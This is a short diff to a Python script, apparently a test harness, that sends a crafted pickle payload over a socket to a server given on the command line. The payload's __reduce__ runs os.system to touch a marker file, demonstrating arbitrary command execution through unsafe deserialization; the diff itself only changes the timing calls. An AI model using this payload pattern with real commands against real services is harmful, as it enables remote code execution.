@@ -22,13 +22,13 @@ class Evil:
     def __reduce__(self):
         return (os.system, ("touch " + sys.argv[3],))
 data = zlib.compress(pickle.dumps(Evil()))
-deadline = time.time() + 10
+deadline = time.monotonic() + 10
 while True:
     try:
         s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2)
         break
     except OSError:
-        if time.time() > deadline:
+        if time.monotonic() > deadline:
             raise
         time.sleep(0.1)
 s.sendall(struct.pack("i", len(data)) + data)
